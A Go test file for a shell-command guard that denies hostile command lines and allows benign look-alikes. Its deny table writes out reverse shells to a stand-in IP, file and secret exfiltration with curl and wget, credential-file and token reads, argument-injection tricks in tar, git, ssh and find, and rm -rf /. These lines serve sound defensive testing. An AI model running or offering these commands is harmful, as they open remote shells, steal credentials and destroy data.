package cmdguard

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

// attacks must all be denied with the given rule under the default options.
var attacks = []struct{ in, rule string }{
	// chaining, pipes, background
	{"ls; rm -rf /", RuleList},
	{"ls && rm -rf /", RuleList},
	{"ls || rm -rf /", RuleList},
	{"ls;", RuleList},
	// Chromium and Electron switches that start a program of the caller's choosing
	{`chromium '--gpu-launcher=sh -c "id>/tmp/x"' https://example.com`, RuleArgInjection},
	{`google-chrome --headless --renderer-cmd-prefix='xterm -e sh' about:blank`, RuleArgInjection},
	{`code --utility-cmd-prefix=/tmp/payload .`, RuleArgInjection},
	{`msedge -GPU-LAUNCHER=/tmp/p`, RuleArgInjection},
	{`brave-browser --browser-subprocess-path /tmp/p`, RuleArgInjection},
	{`slack --ppapi-plugin-launcher=/tmp/p`, RuleArgInjection},
	{"ls | sh", RulePipe},
	{"ls |& sh", RulePipe},
	{"sleep 100 &", RuleBackground},
	{"ls\nrm -rf /", RuleList},
	{"ls\r\nid", RuleControl},
	{"! ls", RuleNegated},
	{"(id)", RuleCompound},
	{"{ id; }", RuleCompound},
	{"if true; then id; fi", RuleCompound},
	{"for i in a; do id; done", RuleCompound},
	{"f() { id; }", RuleCompound},
	{"time id", RuleCompound},
	{"[[ -f /etc/passwd ]]", RuleCompound},
	{"declare -x A=1", RuleCompound},
	{"ls # ; rm -rf /", RuleComment},
	// substitution
	{"echo $(id)", RuleSubstitution},
	{"echo `id`", RuleSubstitution},
	{"cat <(id)", RuleSubstitution},
	{`echo "$(id)"`, RuleSubstitution},
	{"echo \"`id`\"", RuleSubstitution},
	{"$(echo rm) -rf /", RuleSubstitution},
	{"echo $((1+2))", RuleExpansion},
	// redirections
	{"echo x > /etc/passwd", RuleRedirect},
	{"echo x >> ~/.bashrc", RuleRedirect},
	{"cat < /etc/passwd", RuleRedirect},
	{"cat <<EOF\nhi\nEOF", RuleRedirect},
	{"cat <<< hi", RuleRedirect},
	{"ls 2>&1", RuleRedirect},
	{"ls &> out", RuleRedirect},
	{"exec 3<>/dev/tcp/1.2.3.4/80", RuleRedirect},
	// expansions
	{"cat${IFS}/etc/passwd", RuleIFS},
	{"cat$IFS/etc/passwd", RuleIFS},
	{"ls${IFS}-la", RuleIFS},
	{"$SHELL -i", RuleExpansion},
	{"${PAGER} file", RuleExpansion},
	{"echo $HOME", RuleExpansion},
	{"echo ${PATH:0:1}", RuleExpansion},
	{"echo $'\\x72\\x6d'", RuleANSIQuote},
	{"$'\\x62ash' x", RuleANSIQuote},
	{"echo $\"hi\"", RuleANSIQuote},
	{"ls *", RuleGlob},
	{"cat /etc/pass??", RuleGlob},
	{"/???/??t /etc/passwd", RuleGlob},
	{"{cat,/etc/passwd}", RuleBrace},
	{"echo {a,b}", RuleBrace},
	{"FOO=bar ls", RuleAssign},
	{"LD_PRELOAD=/tmp/x.so ls", RuleAssign},
	{"BASH_ENV=/tmp/x bash s.sh", RuleAssign},
	{"A=1", RuleAssign},
	// quote splitting of interpreters
	{"b'a'sh -c id", RuleInterpreter},
	{`"ba"sh -c id`, RuleInterpreter},
	{`\b\a\s\h -c id`, RuleInterpreter},
	{"/bin/bash -c id", RuleInterpreter},
	{"sh -c id", RuleInterpreter},
	{"bash -xc id", RuleInterpreter},
	{"zsh -c id", RuleInterpreter},
	{"python -c 'import os'", RuleInterpreter},
	{"python3 -c 'import os'", RuleInterpreter},
	{"python3.12 -Ic 'import os'", RuleInterpreter},
	{"perl -e 'system(1)'", RuleInterpreter},
	{"perl -ne 'print' f", RuleInterpreter},
	{"ruby -e 'exec 1'", RuleInterpreter},
	{"node -e 'require(1)'", RuleInterpreter},
	{"node -p 1", RuleInterpreter},
	{`node --import 'data:text/javascript,import "child_process"' x.js`, RuleInterpreter},
	{"node --inspect=0.0.0.0:9229 app.js", RuleInterpreter},
	{"php -d auto_prepend_file=data://text/plain;base64,PD8= x.php", RuleList},
	{"php -d 'auto_prepend_file=data://text/plain,<?php system(1);' x.php", RuleInterpreter},
	{"node --eval=1", RuleInterpreter},
	{"php -r 'system(1);'", RuleInterpreter},
	{"lua -e 'os.execute()'", RuleInterpreter},
	{"pwsh -Command id", RuleInterpreter},
	{"vim -c ':!id' f", RuleInterpreter},
	{"vim +':!id' f", RuleInterpreter},
	{"sqlite3 db '.shell id'", RuleInterpreter},
	{"deno eval 'Deno.run()'", RuleInterpreter},
	{"awk 'BEGIN{system(\"id\")}'", RuleInterpreter},
	{"awk '{print | \"sh\"}' f", RuleInterpreter},
	{"awk '{print > \"/tmp/x\"}' f", RuleInterpreter},
	{"gawk -e 'BEGIN{system(1)}'", RuleInterpreter},
	{"awk -f x.awk -e 'BEGIN{system(1)}'", RuleInterpreter},
	{"sed -e e f", RuleInterpreter},
	{"sed 'e id' f", RuleInterpreter},
	{"sed '1e id' f", RuleInterpreter},
	{"sed 's/a/id/e' f", RuleInterpreter},
	{"sed 's/a/b/w /tmp/out' f", RuleInterpreter},
	{"sed 'w /tmp/out' f", RuleInterpreter},
	{"sed '/x/r /etc/hosts' f", RuleInterpreter},
	{"sed -n -e p -e '$e id' f", RuleInterpreter},
	{"sed '/a/,/b/{w /tmp/x\n}' f", RuleInterpreter},
	{"sed '1!e id' f", RuleInterpreter},
	// wrappers
	{"env sh", RuleWrapper},
	{"env -i bash", RuleWrapper},
	{"xargs rm", RuleWrapper},
	// timeout, nice and nohup in their plain forms: the wrapped command is
	// judged in their place; anything outside the plain form is denied.
	{"nice -n 5 sh -c id", RuleInterpreter},
	{"timeout 5 sh -c id", RuleInterpreter},
	{"nohup sh -c id", RuleInterpreter},
	{"timeout -s KILL -k 1 5 bash -c id", RuleInterpreter},
	{"timeout --signal=KILL --kill-after=1 5m python3 -c 'import os'", RuleInterpreter},
	{"timeout 5 nice -n 1 nohup perl -e 'exec q(id)'", RuleInterpreter},
	{"timeout 5 env sh", RuleWrapper},
	{"timeout 5 timeout 5 timeout 5 timeout 5 ls", RuleWrapper}, // nested too deep
	{"timeout 5 cat ~/.aws/credentials", RuleCredential},
	{"timeout 5 tar -cf a.tar x --checkpoint=1 --checkpoint-action=exec=id", RuleArgInjection},
	{"timeout -s KILL sh -c id", RuleWrapper},   // no duration
	{"timeout --kill=1 5 ls", RuleWrapper},      // abbreviated long option
	{"timeout -fv 5 ls", RuleWrapper},           // clustered flags
	{"timeout 5 -s KILL sh -c id", RuleWrapper}, // the command word is an option
	{"timeout 5ss ls", RuleWrapper},             // malformed duration
	{"timeout 5", RuleWrapper},                  // nothing to run
	{"nice --adj=5 ls", RuleWrapper},
	{"nice -n x ls", RuleWrapper},
	{"nohup --foo ls", RuleWrapper},
	{"sudo ls", RuleWrapper},
	{"busybox sh", RuleWrapper},
	{"command ls", RuleWrapper},
	{"eval id", RuleWrapper},
	{". ./x.sh", RuleWrapper},
	{"e'n'v sh", RuleWrapper},
	// argument injection
	{"tar -cf a.tar x --checkpoint=1 --checkpoint-action=exec=id", RuleArgInjection},
	{"tar cf a.tar x --to-command=id", RuleArgInjection},
	{"tar -I id -cf a.tar x", RuleArgInjection},
	{"tar --use-compress-prog=id -cf a.tar x", RuleArgInjection},
	{"tar xIf id a.tar", RuleArgInjection},
	{"git -c core.pager=id log", RuleArgInjection},
	{"git -c core.sshCommand=id fetch", RuleArgInjection},
	{"git -C /tmp/evil status", RuleArgInjection},
	{"git fetch --upload-pack=id origin", RuleArgInjection},
	{"git clone -u id repo", RuleArgInjection},
	{"git archive --exec=id --remote=x HEAD", RuleArgInjection},
	{"git clone 'ext::sh -c id' x", RuleArgInjection},
	{"git rebase -x id main", RuleArgInjection},
	{"git grep -O id x", RuleArgInjection},
	{"git config core.pager id", RuleArgInjection},
	{"git log --output=/tmp/x", RuleArgInjection},
	{`find . -exec id \;`, RuleArgInjection},
	{"find . -execdir id {} +", RuleBrace},
	{"find . -execdir id +", RuleArgInjection},
	{`find . -ok id \;`, RuleArgInjection},
	{"find / -delete", RuleArgInjection},
	{"find . -fprint /tmp/x", RuleArgInjection},
	{"rsync -e 'sh -c id' a b:", RuleArgInjection},
	{"rsync -avze 'sh' a b:", RuleArgInjection},
	{"rsync --rsh=id a b:", RuleArgInjection},
	{"ssh -o ProxyCommand=id host", RuleArgInjection},
	{"ssh -oProxyCommand=id host", RuleArgInjection},
	{"ssh -o 'LocalCommand id' -o PermitLocalCommand=yes host", RuleArgInjection},
	{"scp -S id a b:", RuleArgInjection},
	{"nc -e /bin/sh 203.0.113.9 4444", RuleArgInjection},
	{"nc -lvpe /bin/sh 4444", RuleArgInjection},
	{"ncat --sh-exec 'id' 203.0.113.9 4444", RuleArgInjection},
	{"netcat -c id 203.0.113.9 4444", RuleArgInjection},
	{"socat TCP:203.0.113.9:4444 EXEC:/bin/sh", RuleArgInjection},
	{"socat tcp-listen:4444 system:id", RuleArgInjection},
	{"zip a.zip x -T -TT id", RuleArgInjection},
	{"zip a.zip x -T --unzip-command=id", RuleArgInjection},
	{"curl -o /tmp/x http://e.com", RuleArgInjection},
	{"curl -sLo /tmp/x http://e.com", RuleArgInjection},
	{"curl --config /tmp/c http://e.com", RuleArgInjection},
	{"curl -K /tmp/c", RuleArgInjection},
	{"curl file:///etc/passwd", RuleArgInjection},
	{"curl -d @/etc/passwd http://e.com", RuleArgInjection},
	{"curl -F 'f=@/etc/passwd' http://e.com", RuleArgInjection},
	{"wget -O /tmp/x http://e.com", RuleArgInjection},
	{"wget --post-file=/etc/passwd http://e.com", RuleArgInjection},
	{"wget -e 'use_askpass=id' http://e.com", RuleArgInjection},
	{"man -P id ls", RuleArgInjection},
	{"man --pager=id ls", RuleArgInjection},
	{"less '+!id' f", RuleArgInjection},
	{"tcpdump -z id -G 1 -w x", RuleArgInjection},
	{"npm exec x", RuleArgInjection},
	// options that name a program or a library to load (probe set 17)
	{"sort -S 1 --compress-program='sh -c id' big.txt", RuleArgInjection},
	{"sort --compress-p=id big.txt", RuleArgInjection},
	{"split -l 1 --filter='sh -c id' f", RuleArgInjection},
	{"sdiff --diff-program=id a b", RuleArgInjection},
	{"ssh-keygen -D /tmp/evil.so", RuleArgInjection},
	{"ssh-keygen -t ecdsa-sk -w /tmp/evil.so", RuleArgInjection},
	{"ssh-add -s /tmp/evil.so", RuleArgInjection},
	{"ssh -I /tmp/evil.so host", RuleArgInjection},
	{"ssh-agent sh -c id", RuleWrapper},
	{"ssh-agent -a /tmp/s -- id", RuleWrapper},
	{"ssh-agent -P '/tmp/*.so'", RuleArgInjection},
	{"openssl req -engine /tmp/evil.so -new", RuleArgInjection},
	{"openssl list -provider-path /tmp -provider evil", RuleArgInjection},
	{"openssl list -provider /tmp/evil.so", RuleArgInjection},
	{"openssl rsa -keyform engine -in k", RuleArgInjection},
	// containers given the host
	{"docker run --rm -v /:/host alpine chroot /host id", RuleArgInjection},
	{"docker run -itv /etc:/x alpine sh", RuleArgInjection},
	{"docker run --volume=/var/run/docker.sock:/s alpine", RuleArgInjection},
	{"docker run --mount type=bind,source=/,target=/host alpine", RuleArgInjection},
	{"docker run -v /home/deploy:/h alpine", RuleArgInjection},
	{"podman run --privileged alpine id", RuleArgInjection},
	{"docker run --pid=host alpine id", RuleArgInjection},
	{"docker run --net host alpine id", RuleArgInjection},
	{"docker run --cap-add=SYS_ADMIN alpine id", RuleArgInjection},
	// git -c outside the safe keys, git config writes and credential reads
	{"git -c core.fsmonitor=id status", RuleArgInjection},
	{"git -c credential.helper='!id' fetch", RuleArgInjection},
	{"git -c color.ui=never -c core.hooksPath=/tmp/h commit -m x", RuleArgInjection},
	{"git -cinclude.path=/tmp/c log", RuleArgInjection},
	{"git -c Core.Pager=id log", RuleArgInjection},
	{"git -c color..x=1 log", RuleArgInjection},
	{"git log -c color.ui=never", RuleArgInjection},
	{"git config diff.external /tmp/x.sh", RuleArgInjection},
	{"git config --get credential.helper", RuleArgInjection},
	{"git config --get http.https://github.com/.extraheader", RuleArgInjection},
	{"git config --list", RuleArgInjection},
	{"git config --get core.pager --file /tmp/x", RuleArgInjection},
	{"git config get --all --file=/tmp/x core.pager", RuleArgInjection},
	{"git config --get user.name bob", RuleArgInjection},
	// downloads: the output option reaches only plain relative paths
	{"curl -sSo /home/deploy/.bashrc http://e.com/rc", RuleArgInjection},
	{"curl -o .git/hooks/pre-commit http://e.com/h", RuleArgInjection},
	{"curl --output=../../etc/cron.d/x http://e.com", RuleArgInjection},
	{"curl --output ~/x http://e.com", RuleArgInjection},
	{"curl -XPOST -Kcfg http://e.com", RuleArgInjection},
	{"curl -fo dist/.profile http://e.com", RuleArgInjection},
	{"curl -o dist/x -O http://e.com/.bashrc", RuleArgInjection},
	{"curl --out=dist/x http://e.com", RuleArgInjection},
	{"curl -H x -o", RuleArgInjection},
	{"wget -qO /etc/cron.d/x http://e.com", RuleArgInjection},
	{"wget -O- -e use_askpass=id http://e.com", RuleArgInjection},
	// npm installs that run scripts
	{"npm ci", RuleArgInjection},
	{"npm install --ignore-scripts github:evil/pkg", RuleArgInjection},
	{"npm install --ignore-scripts --ignore-scripts=false", RuleArgInjection},
	{"npm ci --ignore-scripts --foreground-scripts", RuleArgInjection},
	{"npm add --ignore-scripts left-pad", RuleArgInjection},
	{"npm i --ignore-scripts && npm run x", RuleList},
	{"npm ci --ignore-scripts --prefix=/tmp/evil", RuleArgInjection},
	{"npm ci --ignore-scripts --userconfig=/tmp/rc", RuleArgInjection},
	{"npm install --ignore-scripts -w packages/evil", RuleArgInjection},
	{"openssl engine dynamic -pre SO_PATH:/tmp/evil.so -pre LOAD", RuleArgInjection},
	{"openssl engine -t /tmp/evil.so", RuleArgInjection},
	// credential files
	{"cat ~/.ssh/id_rsa", RuleCredential},
	{"cat /home/u/.ssh/authorized_keys", RuleCredential},
	{"cat ~/.aws/credentials", RuleCredential},
	{"cat .env", RuleCredential},
	{"cat ./app/.env.production", RuleCredential},
	{"cat /etc/shadow", RuleCredential},
	{"cat /etc/../etc/shadow", RuleCredential},
	{"cat /proc/self/environ", RuleCredential},
	{"cat /proc/1/environ", RuleCredential},
	{"cat /var/run/secrets/kubernetes.io/serviceaccount/token", RuleCredential},
	{"cat /run/secrets/db_password", RuleCredential},
	{"ls /run/secrets", RuleCredential},
	{"cat /var/run/../run/secrets/x", RuleCredential},
	{"cat ~/.git-credentials", RuleCredential},
	{"cat ~/.npmrc", RuleCredential},
	{"cat ~/.netrc", RuleCredential},
	{"cat id_rsa", RuleCredential},
	{"cat server.pem", RuleCredential},
	{"cat '/etc/sha''dow'", RuleCredential},
	{`c\at /etc/\s\hadow`, RuleCredential},
	{"grep -r x --exclude-from=/root/.ssh/id_ed25519 .", RuleCredential},
	{"scp host:.ssh/id_rsa .", RuleCredential},
	{"head -c 100 /home/u/.kube/config", RuleCredential},
	{"base64 /home/u/.docker/config.json", RuleCredential},
	{`cat /etc/sha""dow`, RuleCredential},
	{"cat '/etc/shadow '", RuleCredential},
	{"cat /etc/./shadow", RuleCredential},
	{"cat ~/.ssh", RuleCredential},
	{"cat /proc/self/root/etc/shadow", RuleCredential},
	{"cat ~/.ssh/id_ed25519.pub.bak", RuleCredential},
	{"cat ~/.ssh/config", RuleCredential},
	// commands that print stored credentials
	{"gpg --export-secret-keys --armor", RuleCredential},
	{"gpg2 --export-secret-sub", RuleCredential},
	{"gh auth token", RuleCredential},
	{"gh auth status --show-token", RuleCredential},
	{"gcloud auth print-access-token", RuleCredential},
	{"az account get-access-token", RuleCredential},
	{"aws configure get default.aws_secret_access_key", RuleCredential},
	{"aws ecr get-login-password --region eu-west-1", RuleCredential},
	{"kubectl config view --raw", RuleCredential},
	{"security find-generic-password -s github -w", RuleCredential},
	{"pass show db/prod", RuleCredential},
	{"vault kv get secret/app", RuleCredential},
	{"docker-credential-desktop get", RuleCredential},
	{"timeout 5 gh auth token", RuleCredential},
	{"/usr/bin/python3 -c x", RuleInterpreter},
	{"python3 -W ignore -c x", RuleInterpreter},
	{"tar --checkpoint-act=exec=id -cf a x", RuleArgInjection},
	{"bash<<<id", RuleRedirect},
	{">/etc/passwd", RuleRedirect},
	{`cat "$(printf /etc/shadow)"`, RuleSubstitution},
	{"/usr/bin/env sh", RuleWrapper},
	// parse errors and odd input
	{"echo 'unterminated", RuleParse},
	{"", RuleEmpty},
	{"   ", RuleEmpty},
	{"ls \x00", RuleControl},
	{"''", RuleEmpty},
}

// benign look-alikes must be allowed with the given argv.
var benign = []struct {
	in   string
	argv []string
}{
	{`echo "a;b"`, []string{"echo", "a;b"}},
	{`chromium --headless --disable-gpu --screenshot https://example.com`, []string{"chromium", "--headless", "--disable-gpu", "--screenshot", "https://example.com"}},
	{`grep -rn -- --gpu-launcher docs/`, []string{"grep", "-rn", "--", "--gpu-launcher", "docs/"}},
	{`echo launcher-cmd-prefix`, []string{"echo", "launcher-cmd-prefix"}},
	{`mvn -Dlauncher=x package`, []string{"mvn", "-Dlauncher=x", "package"}},
	{"timeout 300 make test", []string{"timeout", "300", "make", "test"}},
	{"timeout -k 10 -s TERM 5m go test ./...", []string{"timeout", "-k", "10", "-s", "TERM", "5m", "go", "test", "./..."}},
	{"timeout --preserve-status -- 2.5 ls -la", []string{"timeout", "--preserve-status", "--", "2.5", "ls", "-la"}},
	{"nice -n 10 tar -czf a.tgz dir", []string{"nice", "-n", "10", "tar", "-czf", "a.tgz", "dir"}},
	{"nice -5 make", []string{"nice", "-5", "make"}},
	{"nohup make build", []string{"nohup", "make", "build"}},
	{"grep 'x|y' file.txt", []string{"grep", "x|y", "file.txt"}},
	{`printf '%s\n' '$(id)'`, []string{"printf", `%s\n`, "$(id)"}},
	{"echo 'a && b || c'", []string{"echo", "a && b || c"}},
	{"echo '`id`'", []string{"echo", "`id`"}},
	{`echo "\$HOME"`, []string{"echo", "$HOME"}},
	{`echo \$HOME`, []string{"echo", "$HOME"}},
	{`echo a\;b`, []string{"echo", "a;b"}},
	{"echo 'x > y' '<z>'", []string{"echo", "x > y", "<z>"}},
	{"ls -la /tmp", []string{"ls", "-la", "/tmp"}},
	{"ssh-keygen -lf /home/deploy/.ssh/id_ed25519.pub", []string{"ssh-keygen", "-lf", "/home/deploy/.ssh/id_ed25519.pub"}},
	{"cat ~/.ssh/id_rsa.pub", []string{"cat", "~/.ssh/id_rsa.pub"}},
	{"gpg --export --armor ops@example.com", []string{"gpg", "--export", "--armor", "ops@example.com"}},
	{"gh auth status", []string{"gh", "auth", "status"}},
	{"aws configure get region", []string{"aws", "configure", "get", "region"}},
	{"kubectl config view", []string{"kubectl", "config", "view"}},
	{"pass ls", []string{"pass", "ls"}},
	{"vault status", []string{"vault", "status"}},
	{"c'a't notes.txt", []string{"cat", "notes.txt"}},
	{`"ca"t notes.txt`, []string{"cat", "notes.txt"}},
	{`\c\a\t notes.txt`, []string{"cat", "notes.txt"}},
	{"grep -rn 'TODO: fix; later' src", []string{"grep", "-rn", "TODO: fix; later", "src"}},
	{"git log --oneline -n 5", []string{"git", "log", "--oneline", "-n", "5"}},
	{"git status", []string{"git", "status"}},
	{"git push -u origin main", []string{"git", "push", "-u", "origin", "main"}},
	{"git commit -m 'fix: a && b'", []string{"git", "commit", "-m", "fix: a && b"}},
	{"find . -name '*.go' -type f", []string{"find", ".", "-name", "*.go", "-type", "f"}},
	{"tar -czf out.tar.gz dir", []string{"tar", "-czf", "out.tar.gz", "dir"}},
	{"tar xzf a.tar.gz", []string{"tar", "xzf", "a.tar.gz"}},
	{"curl -sSL 'https://example.com/api?q=1'", []string{"curl", "-sSL", "https://example.com/api?q=1"}},
	{"curl -H 'Authorization: x' -d 'a=b' https://e.com", []string{"curl", "-H", "Authorization: x", "-d", "a=b", "https://e.com"}},
	{"wget -q https://example.com/f.txt", []string{"wget", "-q", "https://example.com/f.txt"}},
	{"nc -zv db.internal 5432", []string{"nc", "-zv", "db.internal", "5432"}},
	{"socat -d TCP-LISTEN:8080,fork TCP:backend:80", []string{"socat", "-d", "TCP-LISTEN:8080,fork", "TCP:backend:80"}},
	{"ssh -o StrictHostKeyChecking=no host uptime", []string{"ssh", "-o", "StrictHostKeyChecking=no", "host", "uptime"}},
	{"sed -n 's/foo/bar/gp' f.txt", []string{"sed", "-n", "s/foo/bar/gp", "f.txt"}},
	{"sed -e 's|a|b|g' -e '/^#/d' f.txt", []string{"sed", "-e", "s|a|b|g", "-e", "/^#/d", "f.txt"}},
	{"sed 's/e/E/g' f.txt", []string{"sed", "s/e/E/g", "f.txt"}},
	{"sed '/a/,/b/{s/x/y/g}' f.txt", []string{"sed", "/a/,/b/{s/x/y/g}", "f.txt"}},
	{"sed '$!d' f.txt", []string{"sed", "$!d", "f.txt"}},
	{"awk 'NR==1' f.txt", []string{"awk", "NR==1", "f.txt"}},
	{"cat /etc/hosts /proc/cpuinfo", []string{"cat", "/etc/hosts", "/proc/cpuinfo"}},
	{"ls /run/user/1000", []string{"ls", "/run/user/1000"}},
	{"cat /srv/data/secrets.md", []string{"cat", "/srv/data/secrets.md"}},
	{"git show HEAD:.env.example", []string{"git", "show", "HEAD:.env.example"}},
	{"awk '{print $1}' f.txt", []string{"awk", "{print $1}", "f.txt"}},
	{"awk -F: '{print $1, $NF}' f.txt", []string{"awk", "-F:", "{print $1, $NF}", "f.txt"}},
	{"python3 script.py --flag", []string{"python3", "script.py", "--flag"}},
	{"node app.js", []string{"node", "app.js"}},
	{"bash build.sh", []string{"bash", "build.sh"}},
	{"cat env.go environment.md .env.example", []string{"cat", "env.go", "environment.md", ".env.example"}},
	{"cat public_key_docs.md", []string{"cat", "public_key_docs.md"}},
	{"echo '{a,b}' 'x*'", []string{"echo", "{a,b}", "x*"}},
	{`echo \*`, []string{"echo", "*"}},
	{"echo \"line1\nline2\"", []string{"echo", "line1\nline2"}},
	{"grep -E '(a|b)+' f.txt", []string{"grep", "-E", "(a|b)+", "f.txt"}},
	{"echo 'IFS=$IFS'", []string{"echo", "IFS=$IFS"}},
	{"echo \"a'b\" 'c\"d'", []string{"echo", "a'b", `c"d`}},
	{"jq '.a | .b' data.json", []string{"jq", ".a | .b", "data.json"}},
	{"ls -- -rf", []string{"ls", "--", "-rf"}},
	{"rg --hidden 'fn main' .", []string{"rg", "--hidden", "fn main", "."}},
	{"echo a\\\nb", []string{"echo", "ab"}},
	// probe set 17 look-alikes
	{"sort -t, -k3,3n -o sorted.csv sales.csv", []string{"sort", "-t,", "-k3,3n", "-o", "sorted.csv", "sales.csv"}},
	{"ssh-keygen -F github.com", []string{"ssh-keygen", "-F", "github.com"}},
	{"ssh-keygen -t ed25519 -C deploy@web1 -f build_key -N ''", []string{"ssh-keygen", "-t", "ed25519", "-C", "deploy@web1", "-f", "build_key", "-N", ""}},
	{"ssh-add -l", []string{"ssh-add", "-l"}},
	{"ssh-agent -s", []string{"ssh-agent", "-s"}},
	{"openssl x509 -in cert.crt -noout -text", []string{"openssl", "x509", "-in", "cert.crt", "-noout", "-text"}},
	{"openssl list -providers -provider default", []string{"openssl", "list", "-providers", "-provider", "default"}},
	{"docker run --rm -v /home/deploy/app:/src -w /src golang:1.26 go test ./...", []string{"docker", "run", "--rm", "-v", "/home/deploy/app:/src", "-w", "/src", "golang:1.26", "go", "test", "./..."}},
	{"docker run --rm -it -v cache:/root/.cache --user 1000 alpine ls", []string{"docker", "run", "--rm", "-it", "-v", "cache:/root/.cache", "--user", "1000", "alpine", "ls"}},
	{"docker ps --format '{{.Names}}'", []string{"docker", "ps", "--format", "{{.Names}}"}},
	{"docker run --network=bridge -p 8080:80 nginx", []string{"docker", "run", "--network=bridge", "-p", "8080:80", "nginx"}},
	{"git -c color.ui=never log --oneline -n 10", []string{"git", "-c", "color.ui=never", "log", "--oneline", "-n", "10"}},
	{"git -c user.name=Bot -c user.email=bot@example.com commit -m x", []string{"git", "-c", "user.name=Bot", "-c", "user.email=bot@example.com", "commit", "-m", "x"}},
	{"git -c color.diff.meta='blue bold' -c advice.detachedHead=false show", []string{"git", "-c", "color.diff.meta=blue bold", "-c", "advice.detachedHead=false", "show"}},
	{"git config --get remote.origin.url", []string{"git", "config", "--get", "remote.origin.url"}},
	{"git config --global --get user.email", []string{"git", "config", "--global", "--get", "user.email"}},
	{"git config get --show-origin init.defaultBranch", []string{"git", "config", "get", "--show-origin", "init.defaultBranch"}},
	{"curl -fsSL -o dist/app.tar.gz https://e.com/app.tar.gz", []string{"curl", "-fsSL", "-o", "dist/app.tar.gz", "https://e.com/app.tar.gz"}},
	{"curl -XPOST -H 'Content-Type: application/json' https://e.com/api", []string{"curl", "-XPOST", "-H", "Content-Type: application/json", "https://e.com/api"}},
	{"curl -sSo- https://e.com", []string{"curl", "-sSo-", "https://e.com"}},
	{"curl --output ./build/report.json https://e.com/r", []string{"curl", "--output", "./build/report.json", "https://e.com/r"}},
	{"curl -uci:Token https://e.com", []string{"curl", "-uci:Token", "https://e.com"}},
	{"wget -qO- https://e.com/install.txt", []string{"wget", "-qO-", "https://e.com/install.txt"}},
	{"wget -nv -O release.tgz https://e.com/r.tgz", []string{"wget", "-nv", "-O", "release.tgz", "https://e.com/r.tgz"}},
	{"npm ci --ignore-scripts", []string{"npm", "ci", "--ignore-scripts"}},
	{"pnpm install --ignore-scripts", []string{"pnpm", "install", "--ignore-scripts"}},
	{"npm ci --ignore-scripts --no-audit --omit=dev", []string{"npm", "ci", "--ignore-scripts", "--no-audit", "--omit=dev"}},
	{"openssl engine", []string{"openssl", "engine"}},
}

func TestAttacks(t *testing.T) {
	for _, tc := range attacks {
		d := Check(tc.in, Options{})
		if d.Allow {
			t.Errorf("Check(%q) allowed %q; want deny %s", tc.in, d.Argv, tc.rule)
			continue
		}
		if d.Rule != tc.rule {
			t.Errorf("Check(%q) rule = %s (%s); want %s", tc.in, d.Rule, d.Reason, tc.rule)
		}
		if d.Argv != nil {
			t.Errorf("Check(%q) denied but Argv = %q", tc.in, d.Argv)
		}
	}
}

func TestBenign(t *testing.T) {
	for _, tc := range benign {
		d := Check(tc.in, Options{})
		if !d.Allow {
			t.Errorf("Check(%q) denied: %s %s", tc.in, d.Rule, d.Reason)
			continue
		}
		if diff := cmp.Diff(tc.argv, d.Argv); diff != "" {
			t.Errorf("Check(%q) argv (-want +got):\n%s", tc.in, diff)
		}
	}
}

func TestCaseCounts(t *testing.T) {
	if len(attacks) < 60 || len(benign) < 20 {
		t.Fatalf("corpus too small: %d attacks, %d benign", len(attacks), len(benign))
	}
}

func TestOptions(t *testing.T) {
	tests := []struct {
		name  string
		in    string
		opts  Options
		allow bool
		rule  string
	}{
		{"allow-list admits", "ls -l", Options{Programs: []string{"ls"}}, true, ""},
		{"allow-list refuses", "rm -rf x", Options{Programs: []string{"ls"}}, false, RuleProgram},
		{"allow-list by name refuses path", "./ls", Options{Programs: []string{"ls"}}, false, RuleProgram},
		{"allow-list path exact", "/bin/ls", Options{Programs: []string{"/bin/ls"}}, true, ""},
		{"quoted name matches", "'l's", Options{Programs: []string{"ls"}}, true, ""},
		{"denied long flag", "rm --recursive x", Options{DeniedFlags: map[string][]string{"rm": {"--recursive"}}}, false, RuleDeniedFlag},
		{"denied long flag abbrev", "rm --recur x", Options{DeniedFlags: map[string][]string{"rm": {"--recursive"}}}, false, RuleDeniedFlag},
		{"denied short in cluster", "rm -rf x", Options{DeniedFlags: map[string][]string{"rm": {"-r"}}}, false, RuleDeniedFlag},
		{"other flags fine", "rm -f x", Options{DeniedFlags: map[string][]string{"rm": {"-r"}}}, true, ""},
		{"expansion allowed in args", "echo $HOME", Options{AllowExpansion: true}, true, ""},
		{"expansion never in command word", "$X -l", Options{AllowExpansion: true}, false, RuleExpansion},
		{"IFS never", "echo a${IFS}b", Options{AllowExpansion: true}, false, RuleIFS},
		{"expansion operators never", "echo ${X:-$(id)}", Options{AllowExpansion: true}, false, RuleExpansion},
		{"globs allowed", "ls *.go", Options{AllowGlobs: true}, true, ""},
		{"glob never in command word", "/bin/l? x", Options{AllowGlobs: true}, false, RuleGlob},
		{"glob matching a credential", "cat /etc/sha*", Options{AllowGlobs: true}, false, RuleCredential},
		{"glob matching ssh key", "cat ~/.ss?/id_*", Options{AllowGlobs: true}, false, RuleCredential},
		{"wrapper must be on the list too", "timeout 5 make", Options{Programs: []string{"make"}}, false, RuleProgram},
		{"wrapped program must be on the list", "timeout 5 rm -rf /", Options{Programs: []string{"timeout", "make"}}, false, RuleProgram},
		{"wrapper and program on the list", "timeout 5 make test", Options{Programs: []string{"timeout", "make"}}, true, ""},
		{"wrapped program never an expansion", "timeout 5 $X", Options{AllowExpansion: true}, false, RuleWrapper},
		{"wrapped program never a glob", "timeout 5 /bin/s?", Options{AllowGlobs: true}, false, RuleWrapper},
		{"denied flag of the wrapped program", "nice -n 5 rm -r x", Options{DeniedFlags: map[string][]string{"rm": {"-r"}}}, false, RuleDeniedFlag},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := Check(tc.in, tc.opts)
			if d.Allow != tc.allow || d.Rule != tc.rule && !tc.allow {
				t.Fatalf("Check(%q) = %+v; want allow=%v rule=%s", tc.in, d, tc.allow, tc.rule)
			}
		})
	}
}

func BenchmarkCheck(b *testing.B) {
	opts := Options{Programs: []string{"git", "ls", "grep"}}
	b.ReportAllocs()
	for b.Loop() {
		if d := Check("git log --oneline -n 20 -- 'internal/cmd guard'", opts); !d.Allow {
			b.Fatal(d)
		}
	}
}
